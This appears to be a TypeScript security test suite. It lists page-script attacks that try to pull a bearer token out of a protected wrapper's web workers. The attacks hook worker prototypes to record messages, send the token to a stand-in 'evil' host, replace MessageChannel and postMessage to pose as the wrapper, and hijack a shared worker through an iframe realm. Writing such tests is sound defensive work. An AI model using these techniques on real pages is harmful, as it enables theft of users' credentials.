import type { Attack } from './attack.ts';

/** In a worker: everything that passes its ports, its `fetch` and its messages, written down; then a request with the handle. */
const SPIES = `
  const seen = [];
  const note = (what) => { try { seen.push(JSON.stringify(what) ?? String(what)); } catch { seen.push(String(what)); } };
  for (const [holder, name] of [[MessagePort.prototype, 'postMessage'], [EventTarget.prototype, 'addEventListener'],
    [EventTarget.prototype, 'dispatchEvent'], [Headers.prototype, 'set'], [Headers.prototype, 'append'],
    [Promise.prototype, 'then'], [Reflect, 'apply'], [Reflect, 'construct'], [Object, 'fromEntries']]) {
    const native = holder[name];
    holder[name] = function (...given) { given.forEach(note); return native.apply(this, given); };
  }
  addEventListener('message', ({ data, ports }) => note([data, ports.length]));
  onmessage = async ({ data: { url, token, method = 'POST' } }) => {
    const headers = { authorization: 'Bearer ' + token, 'content-type': 'application/json' };
    const answer = await fetch(url, { method, headers, ...(method === 'POST' && { body: '{}' }) }).then(
      async (response) => [response.status, ...response.headers, (await response.text()).slice(0, 5000)].join(), String);
    postMessage([answer, ...seen].join('\\n').slice(0, 200000));
  };`;

/** In a page: runs a script in a worker, and says what comes back. */
const inWorker = ([script, url, token]: readonly [string, string, string]): Promise<string> => {
  const worker = new Worker(script.startsWith('data:') ? script : URL.createObjectURL(new Blob([script])));
  worker.postMessage({ url, token });
  return new Promise((resolve) => {
    worker.onmessage = ({ data }) => resolve(String(data));
    worker.onerror = ({ message }) => resolve(String(message));
  });
};

/** What script can try with workers of the protected page. */
export const FROM_WORKERS: readonly Attack[] = [
  {
    name: 'a worker that listens in on all of its ports and prototypes',
    hope: 'the token, or a proof',
    run: (place, { resource, access }) => place.evaluate(inWorker, [SPIES, resource, access] as const),
    got: /^(?!.*eyJ)[2-4]\d\d,/s,
  },
  {
    name: 'a worker that presents the handle elsewhere',
    hope: 'a proof, or the token, for another place',
    run: (place, { evil, access }) => place.evaluate(inWorker, [SPIES, `${evil}/mcp`, access] as const),
  },
  {
    name: 'a worker of an opaque origin',
    hope: 'the page’s session for script that the page keeps apart',
    run: (place, { resource, access }) =>
      place.evaluate(inWorker, [`data:text/javascript,${encodeURIComponent(SPIES)}`, resource, access] as const),
    got: /^401,/,
  },
  {
    name: 'a page that takes the wrapper’s place towards its workers',
    hope: 'the port by which workers ask, and what the wrapper answers',
    run: (place, { resource, access }) =>
      place.evaluate(
        async ([url, token]) => {
          const seen: string[] = [];
          const native = { MessageChannel, Blob, post: Worker.prototype.postMessage, create: URL.createObjectURL };
          Worker.prototype.postMessage = function (this: Worker, ...given: unknown[]) {
            seen.push(`posted ${JSON.stringify(given)}`);
            return Reflect.apply(native.post, this, given);
          };
          window.MessageChannel = class extends native.MessageChannel {
            constructor() {
              super();
              seen.push('a channel');
              this.port1.addEventListener('message', ({ data }) => seen.push(JSON.stringify(data)));
            }
          };
          URL.createObjectURL = (blob) => {
            seen.push('a script');
            return native.create(blob);
          };
          class Own extends Worker {
            constructor() {
              super('/assets/none.js');
              super.postMessage('first', [new native.MessageChannel().port1]);
            }
          }
          const answer = new Promise((resolve) => {
            const code = `onmessage = ({ data, ports }) => data.url
              ? fetch(data.url, { method: 'POST', headers: { authorization: 'Bearer ' + data.token }, body: '{}' })
                .then(({ status }) => postMessage(status), String)
              : postMessage([data, ports.length])`;
            const worker = new Worker(native.create(new native.Blob([code])));
            worker.onmessage = ({ data }) => resolve(data);
            Reflect.apply(native.post, worker, [{ url, token }]);
          });
          new Own();
          const status = await answer;
          Object.assign(window, { MessageChannel: native.MessageChannel });
          Object.assign(Worker.prototype, { postMessage: native.post });
          Object.assign(URL, { createObjectURL: native.create });
          return [status, ...seen].join('\n');
        },
        [resource, access] as const,
      ),
    got: /^(?!.*(?:a channel|a script|eyJ))\d{3}/s,
  },
  {
    name: 'a document that offers itself to a shared worker as the one that carries',
    hope: 'what other documents’ requests are given',
    run: (place, { resource, access }) =>
      place.evaluate(
        async ([url, token]) => {
          const code = `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) =>
            fetch(data.url, { method: 'POST', headers: { authorization: 'Bearer ' + data.token }, body: '{}' })
              .then(({ status }) => port.postMessage(status), ({ message }) => port.postMessage(message)); }`;
          const { port } = new SharedWorker(URL.createObjectURL(new Blob([code])), 'carried');
          const ask = (by: MessagePort) =>
            new Promise<string>((resolve) => {
              by.onmessage = ({ data }) => resolve(String(data));
              by.postMessage({ url, token });
            });
          const seen = [await ask(port)];
          const { held = [] } = await navigator.locks.query();
          const blob = held.flatMap(({ name }) => name?.match(/blob:\S+$/) ?? []).at(-1) ?? '';
          // The constructor of a realm that the wrapper may not have reached yet.
          const frame = document.body.appendChild(document.createElement('iframe'));
          const Native = (frame.contentWindow as unknown as typeof globalThis).SharedWorker;
          const own = new Native(blob, 'carried').port;
          const [spoken, carrying] = [new MessageChannel(), new MessageChannel()];
          carrying.port1.onmessage = ({ data, ports }) => {
            seen.push(JSON.stringify(data));
            ports[0]?.postMessage({ message: 'carried' });
          };
          void navigator.locks.request('a life', () => new Promise(() => undefined));
          own.postMessage('a life', [spoken.port2, carrying.port2]);
          for (let round = 0; round < 5; round += 1) seen.push(await ask(port));
          frame.remove();
          return seen.join('\n');
        },
        [resource, access] as const,
      ),
    got: /^(?!.*eyJ)\d{3}/s,
  },
];
